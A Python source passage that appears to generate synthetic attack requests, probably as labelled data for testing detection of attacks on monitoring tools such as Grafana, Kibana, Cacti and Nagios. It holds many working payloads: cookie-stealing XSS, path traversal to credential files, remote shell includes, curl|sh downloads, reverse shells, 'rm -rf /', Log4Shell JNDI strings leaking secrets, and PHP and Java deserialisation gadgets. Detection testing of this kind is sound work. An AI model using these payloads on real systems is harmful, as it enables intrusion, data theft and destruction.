        ("unicode_escaped", "POST", "/api/login", "application/json", '{"username":"admin","password":{"\\u0024ne":null}}'),
        ("nested_in", "GET", "/api/v1/dashboards?owner%5B%24in%5D%5B%5D=admin&owner%5B%24in%5D%5B%5D=root&token%5B%24exists%5D=true", None, None),
        ("where_string", "POST", "/api/v1/traces/find", "application/json", J({"service": "payments'; return true; var x='"})),
        ("gt_empty_token", "POST", "/api/v1/share/verify", "application/json", J({"shareId": "d41d8cd9", "token": {"$gt": ""}})),
    ]
    for slug, m, uri, ct, body in cases:
        attack("nosqli", slug, m, uri, ahdrs(host(), ct=ct), body)


# --------------------------------------------------------------------------- ldap

def gen_ldap():
    gh = "grafana.example.org"
    cases = [
        ("grafana_ldap_debug", "GET", "/api/admin/ldap/" + q("*)(uid=*))(|(uid=*"), None, None),
        ("grafana_ldap_debug", "GET", "/api/admin/ldap/" + q("admin)(|(userPassword=*)"), None, None),
        ("grafana_ldap_sync", "POST", "/api/admin/ldap/sync/" + q("*)(objectClass=*"), "application/json", "{}"),
        ("user_lookup", "GET", "/api/users/lookup?loginOrEmail=" + q("*)(|(objectClass=*)"), None, None),
        ("user_lookup", "GET", "/api/users/lookup?loginOrEmail=%2a%29%28%7c%28mail%3d%2a%29%29", None, None),
        ("login_json", "POST", "/login", "application/json", J({"user": "*)(&(objectClass=user)(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=local)", "password": "x"})),
        ("login_form", "POST", "/nagiosxi/login.php", "application/x-www-form-urlencoded", "username=" + qp("admin)(&)") + "&password=" + qp("anything") + "&loginButton=Login"),
        ("team_sync", "GET", "/api/teams/search?query=" + q("ops)(|(cn=*)(userPassword=*)") + "&perpage=50", None, None),
        ("group_filter", "GET", "/api/v1/oncall/users?group=" + q("x)(|(memberOf=cn=admins,ou=groups,dc=example,dc=com)") , None, None),
        ("null_byte", "GET", "/api/admin/ldap/" + "admin%29%28%7C%28uid%3D%2A%29%29%00", None, None),
        ("attr_enum", "GET", "/api/v1/users/search?uid=" + q("jdoe)(description=*pass*"), None, None),
        ("double_enc", "GET", "/api/users/lookup?loginOrEmail=" + double_enc("*)(uid=*))(|(uid=*"), None, None),
    ]
    for slug, m, uri, ct, body in cases:
        host = "nagios.example.net" if "nagios" in uri else gh
        extra = [["Cookie", "grafana_session=%s" % hexid(32)]] if host == gh else None
        attack("ldap", slug, m, uri, ahdrs(host, ua=pick(BROWSER_UAS + ATTACKER_UAS), ct=ct, extra=extra), body)


# --------------------------------------------------------------------------- xss

XSS_PAYLOADS = [
    "<script>fetch('https://203.0.113.66/c?'+document.cookie)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "<svg/onload=eval(atob('ZmV0Y2goJy8vZXZpbC5leGFtcGxlL2snK2RvY3VtZW50LmNvb2tpZSk='))>",
    "\"><script src=//evil.example/x.js></script>",
    "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
    "<details open ontoggle=alert`1`>",
    "<a href=\"javascript:fetch('/api/admin/users').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))\">trace</a>",
    "<body onload=location='//evil.example/?'+localStorage.getItem('grafana.token')>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<img src=1 oNeRrOr=\"this.src='//evil.example/?c='+document.cookie\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<input autofocus onfocus=alert(document.cookie)>",
    "<video><source onerror=\"javascript:alert(1)\"></video>",
    "'-alert(document.domain)-'",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
]


def gen_xss():
    ps = XSS_PAYLOADS
    i = [0]

    def nxt():
        p = ps[i[0] % len(ps)]
        i[0] += 1
        return p

    # stored via OTLP span name / attributes (rendered in trace UIs)
    for lang in ("java", "nodejs", "python"):
        p = nxt()
        body = J({"resourceSpans": [{"resource": otlp_resource(lang), "scopeSpans": [{"scope": {"name": "manual"}, "spans": [
            otlp_span(p if lang != "python" else "GET /api/v2/orders", 2,
                      [oattr("http.route", "/api/v2/orders"), oattr("user_agent.original", p if lang == "python" else pick(BROWSER_UAS))], parent=False)]}]}]})
        attack("xss", "otlp_span_name" if lang != "python" else "otlp_span_attr", "POST", "/v1/traces", otlp_headers(lang), body)
    # log messages via Loki / ES / Datadog
    p = nxt()
    attack("xss", "loki_log_line", "POST", "/loki/api/v1/push",
           ahdrs("loki-gateway.monitoring.svc", ua="promtail/3.3.0", ct="application/json", extra=[["X-Scope-OrgID", "tenant-shop"]]),
           J({"streams": [{"stream": {"app": "checkout-api", "job": "kubernetes-pods"}, "values": [[str(ts_ns()), "level=error msg=\"payment failed\" user=%s" % p]]}]}))
    p = nxt()
    attack("xss", "es_bulk_message", "POST", "/_bulk", ahdrs("es-logs.prod.example.net:9200", ua="Elastic-filebeat/8.16.1", ct="application/x-ndjson"),
           J({"create": {"_index": "logs-app-default"}}) + "\n" + J({"@timestamp": iso(), "message": "Unhandled error: " + p, "service": {"name": "frontend-web"}}) + "\n")
    p = nxt()
    attack("xss", "datadog_log", "POST", "/api/v2/logs", ahdrs("http-intake.logs.datadoghq.eu", ua="datadog-agent/7.59.1", ct="application/json", extra=[["DD-API-KEY", hexid(32)]]),
           J([{"ddsource": "nodejs", "service": "frontend-web", "message": p, "status": "error"}]))
    # CSP reports (dashboards render blocked-uri / script-sample)
    for field in ("blocked-uri", "script-sample", "source-file", "document-uri"):
        p = nxt()
        rep = {"document-uri": "https://shop.example.com/checkout", "violated-directive": "script-src-elem", "effective-directive": "script-src-elem",
               "original-policy": "script-src 'self'; report-uri /csp-report", "blocked-uri": "inline", "disposition": "enforce", "status-code": 200}
        rep[field] = p if field != "blocked-uri" else "javascript:" + p.replace("<", "%3C").replace(">", "%3E") if R.random() < 0.5 else p
        attack("xss", "csp_" + field.replace("-", "_"), "POST", "/csp-report", ahdrs("shop.example.com", ua=pick(BROWSER_UAS), ct="application/csp-report"), J({"csp-report": rep}))
    # Sentry user.name / exception value in envelope
    for k in range(2):
        p = nxt()
        ev = sentry_event("javascript")
        if k == 0:
            ev["user"]["username"] = p
        else:
            ev["exception"]["values"][0]["value"] = p
        h, uri_q, key = sentry_envelope_headers("javascript", "sentry.acme-corp.de")
        body = J({"event_id": ev["event_id"], "sent_at": iso(), "sdk": {"name": "sentry.javascript.react", "version": "8.42.0"}}) + "\n" + J({"type": "event"}) + "\n" + J(ev) + "\n"
        attack("xss", "sentry_user_name" if k == 0 else "sentry_exception_value", "POST", "/api/4821/envelope/" + uri_q, h, body)
    # Grafana panel title / annotation / dashboard title
    p = nxt()
    attack("xss", "grafana_panel_title", "POST", "/api/dashboards/db", grafana_headers(),
           J({"dashboard": {"uid": hexid(9), "title": "Checkout", "panels": [{"id": 1, "type": "timeseries", "title": p, "targets": [{"refId": "A", "expr": "up"}]}]}, "overwrite": True}))
    p = nxt()
    attack("xss", "grafana_annotation", "POST", "/api/annotations", grafana_headers(), J({"time": ts_ms(), "tags": ["deploy"], "text": "Deployed " + p}))
    attack("xss", "grafana_angular", "POST", "/api/dashboards/db", grafana_headers(),
           J({"dashboard": {"uid": hexid(9), "title": "{{constructor.constructor('fetch(\"//evil.example/?\"+document.cookie)')()}}", "panels": []}, "overwrite": True}))
    attack("xss", "grafana_snapshot_angular", "GET", "/dashboard/snapshot/%7B%7Bconstructor.constructor(%27alert(document.domain)%27)()%7D%7D?orgId=1",
           [["Host", "grafana.example.org"], ["User-Agent", pick(BROWSER_UAS)], ["Accept", "text/html"]])
    # RUM: web-vitals page / Segment traits / GA page title
    p = nxt()
    attack("xss", "web_vitals_page", "POST", "/api/vitals", ahdrs("shop.example.com", ua=pick(BROWSER_UAS), ct="text/plain;charset=UTF-8"),
           J({"name": "LCP", "value": 2210.4, "rating": "needs-improvement", "id": "v4-1", "page": "/p/8812?ref=" + p}))
    p = nxt()
    attack("xss", "segment_traits", "POST", "/v1/i", ahdrs("api.segment.io", ua=pick(BROWSER_UAS), ct="text/plain"),
           J({"type": "identify", "userId": "48213", "traits": {"name": p, "email": "x@example.com"}, "writeKey": hexid(32)}))
    p = nxt()
    attack("xss", "ga_collect_title", "GET", "/g/collect?v=2&tid=G-7XK2MZ9Q1L&cid=1.2&en=page_view&dt=" + q(p) + "&dl=" + q("https://shop.example.com/"),
           [["Host", "analytics.example.com"], ["User-Agent", pick(BROWSER_UAS)], ["Accept", "*/*"]])
    # reflected: Jaeger / Kibana / status pages query params
    p = nxt()
    attack("xss", "jaeger_search_reflected", "GET", "/search?service=" + q(p) + "&limit=20", [["Host", "jaeger.observability.example.net"], ["User-Agent", pick(BROWSER_UAS)], ["Accept", "text/html"]])
    attack("xss", "kibana_reflected_double_enc", "GET", "/app/discover?_a=" + double_enc("(query:(language:kuery,query:'\"><img src=x onerror=alert(1)>'))"),
           [["Host", "kibana.example.net"], ["User-Agent", pick(BROWSER_UAS)], ["Accept", "text/html"]])
    attack("xss", "json_unicode_message", "POST", "/api/v1/logs", ahdrs("logs.example.net", ct="application/json"),
           '{"level":"error","message":%s}' % json_u_escape("<script>new Image().src='//evil.example/?'+document.cookie</script>", chars="<>'"))
    attack("xss", "bugsnag_context", "POST", "/", ahdrs("notify.bugsnag.com", ua="Bugsnag JavaScript", ct="application/json", extra=[["Bugsnag-Api-Key", hexid(32)]]),
           J({"apiKey": hexid(32), "events": [{"context": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "exceptions": [{"errorClass": "Error", "message": "x"}]}]}))
    attack("xss", "nel_url", "POST", "/nel", ahdrs("nel.example.net", ua=pick(BROWSER_UAS), ct="application/reports+json"),
           J([{"age": 1, "type": "network-error", "url": "https://shop.example.com/\"><script>alert(1)</script>", "body": {"type": "http.error", "status_code": 500}}]))
    attack("xss", "rollbar_person", "POST", "/api/1/item/", ahdrs("rollbar.example.net", ua="python-requests/2.32.3", ct="application/json"),
           J({"access_token": hexid(32), "data": {"environment": "production", "body": {"message": {"body": "checkout failed"}},
                                                  "person": {"id": "1", "username": "<img src=x:x onerror=import('//evil.example/p.js')>"}}}))
    attack("xss", "url_encoded_param", "GET", "/api/v1/track?event=signup&referrer=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
           ahdrs("telemetry.example.com", ua=pick(BROWSER_UAS)))
    attack("xss", "zipkin_tag", "POST", "/api/v2/spans", ahdrs("zipkin.observability.svc:9411", ua="zipkin-reporter-java/3.4.2", ct="application/json"),
           J([{"traceId": hexid(32), "id": hexid(16), "name": "get", "timestamp": ts_ms() * 1000, "duration": 1200,
               "localEndpoint": {"serviceName": "frontend-web"}, "tags": {"http.path": "/cart", "error": "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">"}}]))
    attack("xss", "honeycomb_field", "POST", "/1/batch/production", ahdrs("api.honeycomb.io", ua="libhoney-js/4.3.0", ct="application/json", extra=[["X-Honeycomb-Team", hexid(22)]]),
           J([{"time": iso(), "data": {"name": "http.request", "service.name": "<svg onload=alert(document.domain)>", "duration_ms": 12.5}}]))
    attack("xss", "kibana_saved_search_title", "POST", "/api/saved_objects/search",
           [["Host", "kibana.example.net"], ["User-Agent", pick(BROWSER_UAS)], ["Content-Type", "application/json"], ["kbn-xsrf", "true"]],
           J({"attributes": {"title": "errors</title><script>alert(document.cookie)</script>", "columns": ["message"]}}))
    attack("xss", "html_entity_js_uri", "POST", "/api/annotations", grafana_headers(),
           J({"time": ts_ms(), "tags": ["incident"], "text": "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(document.cookie)\">runbook</a>"}))


# --------------------------------------------------------------------------- lfi

def gen_lfi():
    gh = "grafana.example.org"
    plugins = ["alertlist", "annolist", "barchart", "cloudwatch", "dashlist", "elasticsearch", "graph", "graphite",
               "heatmap", "influxdb", "mysql", "prometheus", "stackdriver", "text", "welcome", "zipkin", "jaeger", "loki"]
    targets = [
        "../../../../../../../../etc/passwd",
        "../../../../../../../../../../etc/grafana/grafana.ini",
        "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fvar%2flib%2fgrafana%2fgrafana.db",
        "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/conf/defaults.ini",
        "../../../../../../../../proc/self/environ",
        "#/../../../../../../../../../etc/shadow",
        "..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd",
        "....//....//....//....//....//....//etc/hosts",
        "../../../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    ]
    for i, t in enumerate(targets):
        plugin = plugins[(i * 5) % len(plugins)]
        attack("lfi", "grafana_plugin_traversal", "GET", "/public/plugins/%s/%s" % (plugin, t),
               [["Host", gh], ["User-Agent", pick(ATTACKER_UAS)], ["Accept", "*/*"], ["Connection", "close"]])
    cases = [
        ("log_download", "GET", "/api/v1/logs/download?file=" + q("../../../../../../etc/passwd"), None, None),
        ("log_download", "GET", "/api/v1/logs/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2froot%2f.ssh%2fid_rsa", None, None),
        ("log_tail", "GET", "/logs/tail?path=/var/log/../../etc/shadow&lines=200", None, None),
        ("log_view_windows", "GET", "/logviewer/view?name=" + q("..\\..\\..\\..\\..\\Windows\\win.ini"), None, None),
        ("log_view_windows", "GET", "/logviewer/view?name=..%5c..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config", None, None),
        ("kibana_cve_2018_17246", "GET", "/api/console/api_server?sense_version=%40%40SENSE_VERSION&apis=../../../../../../../../../../../etc/passwd", None, None),
        ("jaeger_static", "GET", "/static/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", None, None),
        ("json_path", "POST", "/api/v1/exports/fetch", "application/json", J({"format": "csv", "path": "/var/log/app/../../../home/app/.aws/credentials"})),
        ("null_byte", "GET", "/api/v1/logs/download?file=../../../../etc/passwd%00.log", None, None),
        ("unicode_overlong", "GET", "/logs/tail?path=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", None, None),
        ("file_uri", "GET", "/api/v1/sourcemaps/fetch?url=" + q("file:///etc/passwd"), None, None),
    ]
    for slug, m, uri, ct, body in cases:
        host = {"kibana_cve_2018_17246": "kibana.example.net", "jaeger_static": "jaeger.observability.example.net"}.get(slug, pick(["logs.example.net", "monitor.example.io", "observability.acme-corp.de"]))
        attack("lfi", slug, m, uri, ahdrs(host, ct=ct, extra=[["kbn-version", "6.4.2"]] if "kibana" in slug else None), body)


# --------------------------------------------------------------------------- rfi

def gen_rfi():
    cases = [
        ("cacti_include", "nms.example.net", "/cacti/include/global_constants.php?config[include_path]=http://203.0.113.66/shells/r57.txt?"),
        ("nagios_page", "nagios.example.net", "/nagios/side.php?link=https://pastebin.com/raw/9xK2mZq1?"),
        ("observium_module", "observium.example.net", "/index.php?page=http://198.51.100.23/c99.txt%00"),
        ("librenms_template", "librenms.example.net", "/ajax_output.php?id=capture&format=text&type=" + q("http://evil.example/sh.txt?")),
        ("phpsysinfo_lang", "status.example.net", "/phpsysinfo/index.php?lng=" + q("ftp://anonymous:x@198.51.100.23/pub/shell.php")),
        ("zabbix_include", "zabbix.example.net", "/zabbix/include/classes/class.cwidget.php?include=" + q("https://raw.githubusercontent.com/evil-user/payloads/main/wso.php?")),
        ("munin_cgi", "munin.example.net", "/munin-cgi/munin-cgi-graph?file=http:%2f%2f203.0.113.66%2fx.txt%3f"),
        ("double_enc", "nms.example.net", "/index.php?module=" + double_enc("http://203.0.113.66/inc.txt?")),
        ("mixed_case_scheme", "monitor.example.io", "/status/widget.php?source=HtTpS://evil.example/payload.txt%3F"),
        ("smb_unc", "monitor.example.io", "/report.php?template=" + q("\\\\198.51.100.23\\share\\evil.php")),
        ("alert_template_url", "alerts.example.net", "/api/v1/templates/render?template_url=" + q("http://evil.example/tpl.php?") + "&format=php"),
        ("data_dir", "nms.example.net", "/graph.php?config[data_dir]=" + q("http://203.0.113.66/") + "&id=5"),
    ]
    for slug, host, uri in cases:
        attack("rfi", slug, "GET", uri, ahdrs(host, ua=pick(ATTACKER_UAS)))


# --------------------------------------------------------------------------- php

def gen_php():
    lh = "errors.example.org"
    ignition = lambda vf: J({"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
                             "parameters": {"variableName": "username", "viewFile": vf}})
    cases = [
        ("ignition_cve_2021_3129", "POST", "/_ignition/execute-solution", "application/json",
         ignition("php://filter/write=convert.quoted-printable-decode|convert.iconv.utf-16le.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log")),
        ("ignition_cve_2021_3129", "POST", "/_ignition/execute-solution", "application/json", ignition("phar://../storage/logs/laravel.log/test.txt")),
        ("ignition_cve_2021_3129", "POST", "/_ignition/execute-solution", "application/json", ignition("php://filter/write=convert.iconv.utf-8.utf-16be|convert.quoted-printable-encode|convert.iconv.utf-16be.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log")),
        ("object_injection_cookie", "GET", "/monitoring/dashboard.php", None, None),
        ("object_injection_field", "POST", "/api/errors/report", "application/json",
         J({"level": "error", "context": 'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}'})),
        ("object_injection_monolog", "POST", "/log/store.php", "application/x-www-form-urlencoded",
         "data=" + q('O:37:"Monolog\\Handler\\FingersCrossedHandler":3:{s:16:"\x00*\x00passthruLevel";i:0;s:9:"\x00*\x00buffer";a:1:{s:4:"test";a:2:{i:0;s:2:"id";s:5:"level";N;}}s:10:"\x00*\x00handler";O:29:"Monolog\\Handler\\BufferHandler":7:{s:10:"\x00*\x00handler";N;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";N;s:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;s:14:"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}')),
        ("php_input_wrapper", "POST", "/status.php?page=php://input", "text/plain", "<?php system($_GET['c']); ?>"),
        ("data_wrapper", "GET", "/index.php?page=" + q("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+") + "&cmd=id", None, None),
        ("expect_wrapper", "GET", "/logs/view.php?file=expect://id", None, None),
        ("php_filter_read", "GET", "/logs/view.php?file=php://filter/convert.base64-encode/resource=../config/database.php", None, None),
        ("phpunit_eval_stdin", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "text/plain", "<?php echo md5('phpunit_rce'); system('cat /etc/passwd'); ?>"),
        ("php_cgi_cve_2024_4577", "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "application/x-www-form-urlencoded",
         "<?php echo shell_exec('whoami'); ?>"),
        ("log_poisoning_ua", "POST", "/v1/logs", "application/json", None),
        ("eval_param", "POST", "/api/v1/widgets/preview", "application/x-www-form-urlencoded",
         "formula=" + q("1;@eval(base64_decode($_POST['z0']));") + "&z0=" + q(b64("echo shell_exec('id');"))),
        ("assert_callback", "GET", "/graph.php?sort_callback=assert&sort=" + q("system('uname -a')"), None, None),
    ]
    for slug, m, uri, ct, body in cases:
        host = lh
        ua = pick(ATTACKER_UAS)
        extra = None
        if slug == "object_injection_cookie":
            extra = [["Cookie", "PHPSESSID=%s; prefs=%s" % (hexid(26), q('a:1:{i:0;O:10:"LogHandler":2:{s:4:"file";s:23:"/var/www/html/shell.php";s:4:"data";s:30:"<?php system($_GET[\'c\']); ?>";}}'))]]
        if slug == "log_poisoning_ua":
            ua = "<?php system($_GET['cmd']); ?>"
            body = J({"resourceLogs": [{"resource": otlp_resource("php"), "scopeLogs": [{"logRecords": [{"timeUnixNano": str(ts_ns()), "severityText": "INFO", "body": {"stringValue": "visit"}}]}]}]})
            host = "otel.internal.example.org"
        if slug.startswith("ignition"):
            host = "app.example.com"
        attack("php", slug, m, uri, ahdrs(host, ua=ua, ct=ct, extra=extra), body)


# --------------------------------------------------------------------------- rce

def gen_rce():
    cases = [
        ("cacti_cve_2022_46169", "GET", "/cacti/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=" + q("`curl -s http://203.0.113.66/x.sh|sh`"), None, None, [["X-Forwarded-For", "127.0.0.1"]]),
        ("cacti_cve_2022_46169", "GET", "/remote_agent.php?action=polldata&local_data_ids%5B%5D=1&host_id=1&poller_id=1%3Bid%3Euname", None, None, [["X-Forwarded-For", "127.0.0.1"]]),
        ("ping_tool", "POST", "/api/v1/tools/ping", "application/json", J({"host": "10.0.0.5; cat /etc/passwd", "count": 3}), None),
        ("ping_tool", "POST", "/ajax/netcmd.php", "application/x-www-form-urlencoded", "cmd=ping&query=" + q("8.8.8.8 && wget -qO- http://198.51.100.23/m | bash"), None),
        ("traceroute_subshell", "GET", "/api/v1/tools/traceroute?target=" + q("$(curl -fsSL http://203.0.113.66/k.sh | sh)"), None, None, None),
        ("alert_exec_action", "POST", "/api/v1/alerts/actions", "application/json",
         J({"name": "restart-worker", "type": "exec", "args": ["--service", "worker; bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"]}), None),
        ("alert_exec_action", "PUT", "/api/v1/alerts/rules/42/action", "application/json",
         J({"type": "script", "script": "notify.sh", "params": "--to ops `nc -e /bin/sh 198.51.100.23 9001`"}), None),
        ("collector_reload", "POST", "/api/v1/collector/reload", "application/json",
         J({"config_path": "/etc/otelcol/config.yaml;wget${IFS}http://203.0.113.66/a${IFS}-O${IFS}/tmp/a;sh${IFS}/tmp/a"}), None),
        ("collector_reload", "POST", "/admin/reload", "application/x-www-form-urlencoded", "config=" + q("/etc/fluent-bit/fluent-bit.conf|echo${IFS}Y3VybCBodHRwOi8vMjAzLjAuMTEzLjY2L3N8c2g=|base64${IFS}-d|sh"), None),
        ("shellshock_ua", "GET", "/nagios/cgi-bin/status.cgi?host=all", None, None, "() { :; }; /bin/bash -c 'curl http://203.0.113.66/sb.sh | sh'"),
        ("shellshock_header", "GET", "/cgi-bin/mrtg.cgi", None, None, [["Referer", "() { ignored; }; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd"]]),
        ("windows_cmd", "POST", "/api/v1/agents/run-check", "application/json", J({"check": "disk", "drive": "C: & powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANgA2AC8AcAAnACkA"}), None),
        ("windows_certutil", "GET", "/api/v1/tools/nslookup?name=" + q("example.com | certutil -urlcache -split -f http://198.51.100.23/b.exe C:\\Windows\\Temp\\b.exe && C:\\Windows\\Temp\\b.exe"), None, None, None),
        ("librenms_addhost", "POST", "/addhost/", "application/x-www-form-urlencoded",
         "hostname=" + q("10.0.0.9") + "&snmpver=v2c&community=" + q("public';nc -e /bin/sh 203.0.113.66 4444;'") + "&port=161&transport=udp", None),
        ("newline_sep", "GET", "/api/v1/tools/dig?domain=example.com%0Aid%0Auname%20-a", None, None, None),
        ("backticks_json", "POST", "/api/v1/export/run", "application/json", J({"format": "csv", "filename": "report-`id`.csv"}), None),
        ("python_reverse", "POST", "/api/v1/hooks/custom", "application/json",
         J({"command": "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.66\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'"}), None),
        ("zabbix_script_param", "POST", "/zabbix/api_jsonrpc.php", "application/json-rpc",
         J({"jsonrpc": "2.0", "method": "script.create", "params": {"name": "diag", "command": "/usr/bin/curl http://203.0.113.66/z | /bin/bash", "type": 0, "execute_on": 1}, "auth": hexid(32), "id": 1}), None),
        ("quote_obfuscation", "GET", "/api/v1/tools/ping?host=" + q("127.0.0.1;c'a't /e't'c/pa''sswd"), None, None, None),
        ("var_obfuscation", "GET", "/api/v1/tools/ping?host=" + q("127.0.0.1|/???/b??h -c 'id'"), None, None, None),
        ("url_double_enc", "GET", "/api/v1/tools/ping?host=" + double_enc("127.0.0.1;wget http://203.0.113.66/x -O /tmp/x;chmod +x /tmp/x;/tmp/x"), None, None, None),
        ("fluentd_exec_filter", "POST", "/api/v1/pipelines/preview", "application/json",
         J({"pipeline": "[FILTER]\n    Name   lua\n    Match  *\n    call   f\n    code   function f(t,ts,r) os.execute('curl http://203.0.113.66/f|sh') return 0,ts,r end"}), None),
        ("logstash_ruby_filter", "POST", "/api/v1/pipelines/test", "application/json",
         J({"config": "filter { ruby { code => \"system('bash -c \\\"bash -i >& /dev/tcp/198.51.100.23/443 0>&1\\\"')\" } }"}), None),
        ("osquery_distributed_cmd", "POST", "/api/v1/osquery/distributed/write", "application/json",
         J({"node_key": hexid(32), "queries": {"q1": "SELECT * FROM curl WHERE url = 'http://x'; ATTACH '/tmp/x' AS y; --", "q2": "x"}, "cmd": ";rm -rf / --no-preserve-root"}), None),
        ("awstats_open_pipe", "GET", "/cgi-bin/awstats.pl?configdir=" + q("|echo;id;echo|"), None, None, None),
        ("wget_semicolon", "GET", "/monitoring/check.cgi?target=127.0.0.1%3bwget%20http%3a%2f%2f203.0.113.66%2fmirai.arm7%20-O%20%2ftmp%2fm%3bchmod%20777%20%2ftmp%2fm%3b%2ftmp%2fm", None, None, None),
    ]
    for slug, m, uri, ct, body, extra in cases:
        ua = None
        if isinstance(extra, str):
            ua, extra = extra, None
        host = pick(["nms.example.net", "monitor.example.io", "observability.acme-corp.de", "nagios.example.net"])
        attack("rce", slug, m, uri, ahdrs(host, ua=ua, ct=ct, extra=extra), body)


# --------------------------------------------------------------------------- java

def java_serialized_b64():
    raw = (b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp"
           b"\x00\x00\x00\x02sr\x00+org.apache.commons.beanutils.BeanComparator\xe3\xa1\x88\xeas\"\xa4H\x02\x00\x02L\x00\ncomparatorq\x00~\x00\x01L\x00\x08propertyt\x00\x12Ljava/lang/String;"
           b"xpsr\x00?org.apache.commons.collections.comparators.ComparableComparator\xfb\xf4\x99%\xb8n\xb17\x02\x00\x00xpt\x00\x10outputProperties"
           b"w\x04\x00\x00\x00\x03sr\x00:com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\tWO\xc1n\xac\xab3\x03\x00\x06I\x00\r_indentNumber")
    return base64.b64encode(raw).decode()


def gen_java():
    jndi = [
        "${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/Y3VybCBodHRwOi8vMjAzLjAuMTEzLjY2L3N8c2g=}",
        "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.oast.fun/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.23:1099/Exploit}",
        "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.d3v8k.oast.pro/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//203.0.113.66/a}",
        "${${upper:j}ndi:${upper:l}dap://evil.example:389/o=tomcat}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.66/x}",
        "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://${hostName}.c6v2.interact.sh/s2}",
        "${jndi:rmi://198.51.100.23/Object}",
    ]
    # Log4Shell through telemetry fields
    attack("java", "log4shell_otlp_log_body", "POST", "/v1/logs", otlp_headers("java"),
           J({"resourceLogs": [{"resource": otlp_resource("java"), "scopeLogs": [{"scope": {"name": "org.slf4j"}, "logRecords": [
               {"timeUnixNano": str(ts_ns()), "severityText": "WARN", "body": {"stringValue": "Login failed for user " + jndi[0]}}]}]}]}))
    attack("java", "log4shell_sdk_user_agent", "POST", "/v1/traces", [["Host", pick(OTLP_HOSTS)], ["User-Agent", jndi[1]], ["Content-Type", "application/json"]],
           J({"resourceSpans": []}))
    attack("java", "log4shell_span_attr", "POST", "/v1/traces", otlp_headers("java"),
           J({"resourceSpans": [{"resource": otlp_resource("java"), "scopeSpans": [{"scope": {"name": "manual"}, "spans": [
               otlp_span("GET /api/v2/orders", 2, [oattr("http.request.header.x-api-version", jndi[2]), oattr("http.route", "/api/v2/orders")], parent=False)]}]}]}))
    attack("java", "log4shell_loki_line", "POST", "/loki/api/v1/push", ahdrs("loki-gateway.monitoring.svc", ua="promtail/3.3.0", ct="application/json"),
           J({"streams": [{"stream": {"app": "billing"}, "values": [[str(ts_ns()), "GET /api/invoices ua=%s" % jndi[3]]]}]}))
    attack("java", "log4shell_sentry_username", "POST", "/api/4821/store/",
           [["Host", "sentry.acme-corp.de"], ["User-Agent", "sentry.java/7.18.1"], ["Content-Type", "application/json"],
            ["X-Sentry-Auth", "Sentry sentry_version=7, sentry_client=sentry.java/7.18.1, sentry_key=%s" % hexid(32)]],
           J({"event_id": hexid(32), "platform": "java", "message": "checkout failed", "user": {"username": jndi[4]}}))
    attack("java", "log4shell_header", "GET", "/api/v1/query?query=up", [["Host", "prometheus.monitoring.svc:9090"], ["User-Agent", "Grafana/11.3.1"], ["X-Api-Version", jndi[5]], ["Accept", "application/json"]])
